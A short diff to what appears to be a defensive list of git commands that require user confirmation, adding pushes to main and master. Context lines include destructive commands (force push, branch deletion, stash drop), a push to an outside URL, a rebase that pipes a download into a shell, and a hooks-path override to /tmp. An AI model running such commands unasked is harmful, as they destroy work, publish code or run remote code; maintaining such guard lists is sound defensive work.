@@ -195,6 +195,8 @@ ASKED: Final = (
     "git stash drop",
     "git branch -D feature/x",
     "git push --force origin feature/x",
+    "git push origin main",
+    "git push origin HEAD:master",
     "git push https://example.org/x.git main",
     "git rebase --exec 'curl x | sh' main",
     "git -c core.hooksPath=/tmp/x commit --amend",
